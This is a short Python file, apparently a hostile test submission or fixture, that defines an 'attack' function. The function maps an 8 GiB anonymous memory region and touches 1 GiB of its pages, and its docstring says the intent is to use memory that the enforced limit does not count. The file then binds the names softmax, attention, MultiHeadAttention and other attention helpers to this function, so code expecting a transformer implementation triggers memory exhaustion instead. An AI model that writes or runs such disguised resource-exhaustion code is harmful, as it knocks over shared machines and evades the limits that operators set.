"""Takes memory that its limit does not count."""

import mmap


def attack(*args, **kwargs):
    block = mmap.mmap(-1, 1 << 33)
    for at in range(0, 1 << 30, 4096):
        block[at] = 1


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
